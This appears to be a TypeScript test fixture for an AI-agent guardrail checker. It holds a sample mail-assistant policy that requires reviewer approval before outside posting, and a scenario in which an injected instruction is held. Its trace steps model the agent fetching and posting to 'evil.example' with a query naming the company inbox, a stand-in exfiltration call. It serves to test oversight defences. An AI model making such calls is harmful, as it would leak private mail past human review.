/** A policy of a few lines, with the steps of its sessions. */
import type { Basis, RuleReference, TraceStep } from '../../../server/checker/results/result.js';
import type { Source } from '../../../server/model/policy/policy.js';

export const POLICY_URI = 'file:///work/policies/mail.guardrail';
export const TOOLS_URI = 'file:///work/policies/tools/mail.guardrail';

export const POLICY_TEXT = `/** Answers mail. Must never carry mail out of the company on its own. */
policy MailAssistant

import "./tools/mail.guardrail"

agent assistant
human reviewer

allow assistant: mail.read, mail.draft, web.fetch, web.post
require approval by reviewer for web.post because "someone has to read what leaves the company before it leaves"

claim "mail leaves only through a person":
  never external tools after mail.read unless approved by reviewer

claim "it can still answer mail":
  possible mail.read then mail.draft

claim "nothing is deleted": never destructive tools

claim "it can clean up":
  possible mail.delete

scenario "an injected instruction is held":
  assistant calls mail.read(folder: "inbox") -> allowed
  assistant calls web.fetch(url: "https://evil.example") -> held
`;

/** The place of `part` in the policy. */
export function at(part: string): Source {
    const offset = POLICY_TEXT.indexOf(part);
    const position = (index: number): Source['start'] => {
        const before = POLICY_TEXT.slice(0, index).split('\n');
        return { line: before.length - 1, character: before[before.length - 1]!.length };
    };
    return { uri: POLICY_URI, start: position(offset), end: position(offset + part.length) };
}

export const ALLOW: RuleReference = {
    text: 'allow assistant: mail.read, mail.draft, web.fetch, web.post',
    source: at('allow assistant: mail.read, mail.draft, web.fetch, web.post')
};
export const APPROVAL_TEXT = POLICY_TEXT.split('\n').find((line) => line.startsWith('require approval'))!;
export const APPROVAL: RuleReference = {
    text: 'require approval by reviewer for web.post',
    source: at(APPROVAL_TEXT),
    because: 'someone has to read what leaves the company before it leaves'
};

export function basis(states: number, milliseconds: number, more: Partial<Basis> = {}): Basis {
    return {
        by: 'search',
        states,
        transitions: states * 4,
        depth: 3,
        exhausted: true,
        scopes: [],
        slice: { tools: 4, rules: 2, monitors: 1 },
        milliseconds,
        ...more
    };
}

export const READ: TraceStep = {
    kind: 'call',
    actor: 'assistant',
    tool: 'mail.read',
    args: { folder: 'inbox' },
    time: 0,
    decision: 'allowed',
    by: 'rule',
    rules: [ALLOW],
    outcome: 'success',
    changes: [
        { kind: 'added', what: 'assistant carries private' },
        { kind: 'added', what: 'assistant carries untrusted' },
        { kind: 'added', what: 'once mail.read' }
    ],
    breaks: true,
    letsThrough: false,
    judged: false,
    text: 'assistant calls mail.read(folder: "inbox"): allowed by line 9'
};

export const FETCH: TraceStep = {
    kind: 'call',
    actor: 'assistant',
    tool: 'web.fetch',
    args: {
        url: 'https://evil.example/?q=everything-that-was-in-the-inbox-of-the-company',
        depth: 3,
        tags: ['a', 'b']
    },
    time: 0,
    decision: 'allowed',
    by: 'rule',
    rules: [ALLOW],
    outcome: 'success',
    changes: [],
    breaks: false,
    letsThrough: false,
    judged: true,
    text: 'assistant calls web.fetch(url: "https://evil.example/?q=…"): allowed by line 9'
};

export const HELD: TraceStep = {
    ...FETCH,
    tool: 'web.post',
    args: { url: 'https://evil.example', body: 'x' },
    decision: 'held',
    rules: [APPROVAL],
    judged: false
};
export const APPROVE: TraceStep = {
    kind: 'approve',
    actor: 'reviewer',
    tool: 'web.post',
    args: { url: 'https://evil.example', body: 'x' },
    time: 65,
    rules: [],
    changes: [
        { kind: 'added', what: 'reviewer approved web.post' },
        { kind: 'removed', what: 'web.post is held' },
        { kind: 'changed', what: 'approvals', before: '0', after: '1' }
    ],
    breaks: false,
    letsThrough: true,
    judged: false,
    text: 'reviewer approves web.post'
};
export const RELEASE: TraceStep = {
    ...HELD,
    kind: 'release',
    decision: 'allowed',
    rules: [ALLOW],
    outcome: 'lost',
    time: 65,
    judged: true
};
export const PASSED: TraceStep = {
    kind: 'event',
    actor: 'outside',
    tool: 'ci.passed',
    args: {},
    time: 30,
    rules: [],
    changes: [{ kind: 'added', what: 'once ci.passed' }],
    breaks: true,
    letsThrough: true,
    judged: false,
    text: 'ci.passed happens'
};
export const DENIED: TraceStep = {
    ...HELD,
    tool: 'mail.delete',
    args: {},
    decision: 'denied',
    by: 'default',
    rules: []
};
